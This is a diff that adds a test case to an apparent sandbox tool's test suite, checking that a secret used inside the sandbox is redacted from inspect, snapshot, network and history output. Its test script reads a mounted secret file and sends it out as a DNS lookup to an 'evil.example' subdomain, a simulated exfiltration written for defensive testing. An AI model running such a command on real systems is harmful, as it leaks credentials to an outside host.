@@ -73,6 +73,26 @@ def places_of_sandbox(t):
         aisbx(t, "rm", name)
 
 
+@suite.case("A164d", "a secret on a command line inside, and in what was refused to a named sandbox", shown_control)
+def processes(t):
+    value = "CanaryTopSecretValue12345"
+    path = token(t, value + "\n")
+    name = f"sec{os.getpid()}"
+    made = aisbx(t, "create", name, "--secret", f"TOKEN={path}", "--allow", "good.example:443")
+    t.equal(made.returncode, 0, f"create: {made.stderr}")
+    script = "getent hosts $(cat /run/secrets/TOKEN).evil.example; sh -c 'sleep 300; true' $(cat /run/secrets/TOKEN) & sleep 0.2"
+    try:
+        aisbx(t, "exec", name, "--", "sh", "-c", script + " >/dev/null 2>&1 </dev/null")
+        for words in (["inspect", name, "--json"], ["snap", name], ["snap", name, "--json"], ["net", name, "--json"], ["history", "--json"]):
+            done = aisbx(t, *words)
+            shown = done.stdout + done.stderr
+            t.ok(value.lower() not in shown.lower(), f"{words} does not hold it", done)
+            t.ok("[secret TOKEN]" in shown or words[0] == "history", f"{words} names it", done)
+    finally:
+        aisbx(t, "stop", name)
+        aisbx(t, "rm", name)
+
+
 @suite.case("A163c", "a link inside in the place of the secrets", "there is no such place outside")
 def moved_place(t):
     path = token(t)
